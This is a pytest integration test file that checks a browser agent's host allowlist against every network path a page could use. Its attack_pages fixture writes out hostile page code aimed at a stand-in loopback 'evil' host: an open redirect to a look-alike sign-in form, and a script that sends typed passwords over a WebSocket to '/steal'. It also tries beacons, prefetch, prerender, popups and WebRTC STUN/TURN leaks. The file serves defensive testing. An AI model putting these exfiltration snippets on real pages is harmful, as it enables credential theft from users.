"""The host allowlist holds for every way a page can reach the network.

An allowed site on 127.0.0.1 and an off-list server on 127.0.0.2 (both
loopback; the account allows ``127.0.0.1`` on any port): the off-list server
listens for TCP and UDP on one port and must never see a connection or a
datagram, whether the page is redirected there, opens a WebSocket, prefetches,
prerenders, opens a popup, sends a beacon or gathers WebRTC candidates.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from agentd.browser import StepFailed, StepProblem
from agentd.browser.playwright_browser import BrowserSession, PlaywrightBrowser
from agentd.demosite import DemoSite
from agentd.kb import Action, KnowledgeBase, Step, Workflow
from agentd.ops_config import BrowserSettings
from tests.integration import test_browser_agent as base
from tests.integration.test_browser_agent import harness

pytestmark = base.BROWSER_MARKS
anyio_backend = base.anyio_backend
shared_browser = base.shared_browser
tmp = base.tmp

PASSWORD = "vault-password-7f3a"
STEP_TIMEOUT_S = 2.0
SIGN_IN = (
    '<h1>Sign in</h1><form method="post" action="{action}">'
    '<input id="user" name="user"><input id="password" name="password" type="password">'
    '<button id="submit">Sign in</button></form>'
)


@dataclass
class OffList:
    """A server off the allowlist: it counts TCP connections and UDP datagrams."""

    tcp: socket.socket
    udp: socket.socket
    connections: list[Any] = field(default_factory=list)
    datagrams: list[bytes] = field(default_factory=list)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.2:{self.port}"

    @property
    def port(self) -> int:
        return int(self.tcp.getsockname()[1])

    @property
    def host(self) -> str:
        return f"127.0.0.2:{self.port}"

    def serve(self) -> None:
        def accept() -> None:
            while True:
                try:
                    conn, peer = self.tcp.accept()
                except OSError:
                    return
                self.connections.append(peer)
                conn.close()

        def receive() -> None:
            self.udp.settimeout(0.1)
            while self.udp.fileno() != -1:
                try:
                    self.datagrams.append(self.udp.recv(2048))
                except TimeoutError:
                    continue
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        threading.Thread(target=receive, daemon=True).start()


@pytest.fixture
def off_list() -> Iterator[OffList]:
    for _ in range(20):  # a TCP port whose UDP twin is free too
        tcp = socket.socket()
        tcp.bind(("127.0.0.2", 0))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            udp.bind(("127.0.0.2", tcp.getsockname()[1]))
            break
        except OSError:
            tcp.close()
            udp.close()
    else:
        pytest.fail("no free TCP and UDP port pair on 127.0.0.2")
    tcp.listen(16)
    server = OffList(tcp, udp)
    server.serve()
    try:
        yield server
    finally:
        tcp.shutdown(socket.SHUT_RDWR)  # ends accept()
        tcp.close()
        udp.close()  # ends recv() at its next timeout


def attack_pages(evil: str, evil_port: int) -> dict[str, str]:
    """Pages of the allowed site, each trying another way out to ``evil``."""
    return {
        # An open redirect on the allowed site, to a look-alike sign-in page.
        "/start": f"302 {evil}/login",
        # A sign-in page on the allowed site that sends what is typed elsewhere,
        # and tries every other way out it can; #tried appears once the
        # WebSocket has failed.
        "/login": SIGN_IN.format(action="/done")
        + f"""<link rel="prefetch" href="{evil}/prefetch">
<link rel="preconnect" href="{evil}">
<link rel="dns-prefetch" href="{evil}">
<script type="speculationrules">{{"prerender": [{{"urls": ["{evil}/prerender"]}}]}}</script>
<img src="/bounce">
<script>
fetch('/bounce').catch(() => {{}});
navigator.sendBeacon('{evil}/beacon', 'x');
window.open('{evil}/popup');
const pc = new RTCPeerConnection({{iceServers: [
  {{urls: 'stun:127.0.0.2:{evil_port}'}},
  {{urls: 'turn:127.0.0.2:{evil_port}?transport=tcp', username: 'u', credential: 'p'}}]}});
pc.createDataChannel('x');
pc.createOffer().then(o => pc.setLocalDescription(o));
document.querySelector('#password').addEventListener('input', e => {{
  const ws = new WebSocket('ws://127.0.0.2:{evil_port}/steal');
  ws.onopen = () => ws.send(e.target.value);
  ws.onerror = ws.onclose = () => {{
    if (!document.querySelector('#tried')) {{
      const p = document.createElement('p'); p.id = 'tried'; p.textContent = 'tried';
      document.body.appendChild(p);
    }}
  }};
}});
</script>""",
        "/bounce": f"302 {evil}/bounce",
        "/done": "<h1>Done</h1>",
        # A page that leaves by script once a button is pressed.
        "/jump": f'<button id="go" onclick="location.href=\'{evil}/login\'">Go</button>',
        # A page that leaves by itself.
        "/refresh": f'<meta http-equiv="refresh" content="0;url={evil}/login"><h1>Wait</h1>',
    }


@dataclass
class Allowed:
    """The allowed site: ``pages`` by path (``"302 URL"`` redirects); records every hit."""

    server: ThreadingHTTPServer
    pages: dict[str, str]
    hits: list[tuple[str, str, bytes]] = field(default_factory=list)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    @property
    def origin(self) -> str:
        return f"http://{self.server.server_address[0]}:{self.port}"


def serve(host: str, pages: dict[str, str]) -> Allowed:
    """Serve ``pages`` on ``host`` (a free port) from a background thread."""
    site: Allowed

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            path = self.path.split("?")[0]
            site.hits.append((self.command, path, body))
            page = site.pages.get(path)
            if page is None:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif page.startswith("302 "):
                self.send_response(302)
                self.send_header("Location", page[4:])
                self.send_header("Set-Cookie", "session=s1; Path=/")
                self.send_header("Content-Length", "0")
                self.end_headers()
            else:
                data = f"<!doctype html><html><body>{page}</body></html>".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        do_GET = do_POST = _answer

    site = Allowed(ThreadingHTTPServer((host, 0), Handler), pages)
    threading.Thread(target=site.server.serve_forever, daemon=True).start()
    return site


def stop(site: Allowed) -> None:
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def allowed(off_list: OffList) -> Iterator[Allowed]:
    site = serve("127.0.0.1", attack_pages(off_list.origin, off_list.port))
    try:
        yield site
    finally:
        stop(site)


def kb_of(*steps: tuple[str, Action, str, str | None, str | None]) -> KnowledgeBase:
    made = tuple(Step(i + 1, *step) for i, step in enumerate(steps))
    wf = Workflow("visit", "visit", "t", (), ("admin_password",), made)
    return KnowledgeBase("t", {}, (wf,))


def demo_for(site: Allowed) -> DemoSite:
    """A DemoSite that only names the allowed site (the harness reads .url, .port, secrets)."""
    fake = DemoSite(admin_password=PASSWORD)
    fake.host, fake.port = "127.0.0.1", site.port
    fake._server = site.server  # type: ignore[assignment]
    return fake


SIGN_IN_STEPS = (
    ("Type the password", Action.FILL, "#password", "{secret:admin_password}", None),
    ("Sign in", Action.CLICK, "#submit", None, None),
    ("Signed in", Action.EXPECT_TEXT, "h1", None, "Done"),
)


async def run_visit(tmp: Path, site: Allowed, browser: PlaywrightBrowser, kb: KnowledgeBase) -> Any:
    fake = demo_for(site)
    try:
        async with harness(
            tmp, fake, browser, kb=kb, hosts=["127.0.0.1"], step_timeout_s=STEP_TIMEOUT_S
        ) as h:
            op = await h.run("visit")
            return op, await h.svc.steps(op.id), await h.audit(op.id)
    finally:
        fake._server = None


def typed_anywhere(site: Allowed) -> bool:
    return any(PASSWORD.encode() in body for _, _, body in site.hits)


@pytest.mark.parametrize(
    ("steps", "failed_at"),
    [
        pytest.param(
            (("Open the sign-in page", Action.GOTO, "/start", None, None), *SIGN_IN_STEPS),
            1,
            id="redirect",
        ),
        pytest.param(
            (
                ("Open the start page", Action.GOTO, "/jump", None, None),
                ("Go on", Action.CLICK, "#go", None, None),
                ("Wait for the form", Action.WAIT_FOR, "#password", None, None),
                *SIGN_IN_STEPS,
            ),
            2,
            id="script-navigation",
        ),
        pytest.param(
            (
                ("Open the start page", Action.GOTO, "/refresh", None, None),
                ("Wait for the form", Action.WAIT_FOR, "#password", None, None),
                *SIGN_IN_STEPS,
            ),
            1,
            id="meta-refresh",
        ),
    ],
)
async def test_a_page_sent_off_the_allowlist_fails_its_step(
    tmp: Path,
    shared_browser: PlaywrightBrowser,
    allowed: Allowed,
    off_list: OffList,
    steps: tuple[Any, ...],
    failed_at: int,
) -> None:
    op, rows, audit = await run_visit(tmp, allowed, shared_browser, kb_of(*steps))
    assert (op.state, op.reason) == ("failed", "host_not_allowed"), op.error
    assert off_list.host in (op.error or ""), op.error
    # The step that went (or the next one, when the page left on its own) failed ...
    failed = [r for r in rows if r.status == "failed"]
    assert failed and failed[0].idx <= failed_at + 1, [(r.idx, r.status) for r in rows]
    assert all(r.status == "ok" for r in rows if 0 < r.idx < failed[0].idx)
    # ... with a screenshot, and the refusal audited.
    final = [r for r in rows if r.status == "final"]
    assert final and Path(final[0].screenshot or "").read_bytes().startswith(b"\x89PNG")
    events = {r.event: r.data for r in audit}
    assert events["HOST_NOT_ALLOWED"]["step"] == failed[0].idx
    assert off_list.host in events["HOST_NOT_ALLOWED"]["hosts"]
    assert events["OPERATION_FAILED"]["reason"] == "host_not_allowed"
    assert off_list.host in events["OPERATION_FAILED"]["refused_hosts"]
    # The password was typed nowhere, and the off-list server saw nothing at all.
    assert not [r for r in rows if r.action == "fill" and r.status == "ok"]
    assert not typed_anywhere(allowed)
    assert off_list.connections == [] and off_list.datagrams == []


async def test_a_page_cannot_reach_an_off_list_host_any_other_way(
    tmp: Path, shared_browser: PlaywrightBrowser, allowed: Allowed, off_list: OffList
) -> None:
    kb = kb_of(
        ("Open the sign-in page", Action.GOTO, "/login", None, None),
        ("Type the password", Action.FILL, "#password", "{secret:admin_password}", None),
        ("The page tried its WebSocket", Action.WAIT_FOR, "#tried", None, None),
        ("Sign in", Action.CLICK, "#submit", None, None),
        ("Signed in", Action.EXPECT_TEXT, "h1", None, "Done"),
    )
    op, rows, audit = await run_visit(tmp, allowed, shared_browser, kb)
    # The page stayed on the allowed site: the operation completes ...
    assert op.state == "completed", op.error
    assert [r.status for r in rows if r.status != "final"] == ["ok"] * 5
    # ... its sign-in reached the allowed site; the redirect hops were followed there
    # (the cookie they set did not stop anything) and refused at the next hop ...
    assert ("POST", "/done", f"user=&password={PASSWORD}".encode()) in allowed.hits
    assert ("GET", "/bounce", b"") in allowed.hits
    # ... and nothing reached the off-list host, not even the WebSocket upgrade, a
    # prefetch, the popup, the beacon or a STUN or TURN packet; the attempts are audited.
    assert off_list.connections == [] and off_list.datagrams == []
    completed = next(r.data for r in audit if r.event == "OPERATION_COMPLETED")
    # (Chromium's own autofill queries to Google are refused too: not on the list.)
    assert off_list.host in completed["refused_hosts"]


async def test_a_secret_is_not_typed_into_a_page_off_the_allowlist(
    tmp: Path, shared_browser: PlaywrightBrowser, allowed: Allowed
) -> None:
    """The check before a fill holds on its own: here, in a context with no proxy,
    the redirect reaches a look-alike sign-in page off the allowlist (another port
    of 127.0.0.1, the one address the browser resolves by itself)."""
    evil = serve("127.0.0.1", {"/login": SIGN_IN.format(action="/login")})
    allowed.pages["/start"] = f"302 {evil.origin}/login"
    browser = await shared_browser._ensure()
    context = await browser.new_context()
    settings = BrowserSettings(step_timeout_s=STEP_TIMEOUT_S, trace=False)
    hosts = [f"127.0.0.1:{allowed.port}"]
    session = BrowserSession(context, hosts, tmp, settings, allowed.origin)
    try:
        await session.open()
        with pytest.raises(StepFailed) as went:
            await session.perform(Step(1, "Open", Action.GOTO, "/start"))
        assert went.value.problem is StepProblem.HOST_NOT_ALLOWED
        assert session.page.url.startswith(evil.origin)  # no proxy: it did get there
        with pytest.raises(StepFailed) as refused:
            await session.perform(Step(2, "Type", Action.FILL, "#password", PASSWORD))
        assert refused.value.problem is StepProblem.HOST_NOT_ALLOWED
        assert await session.page.locator("#password").input_value() == ""
    finally:
        await session.close()
        stop(evil)
    assert [(m, p) for m, p, _ in evil.hits] == [("GET", "/login")]
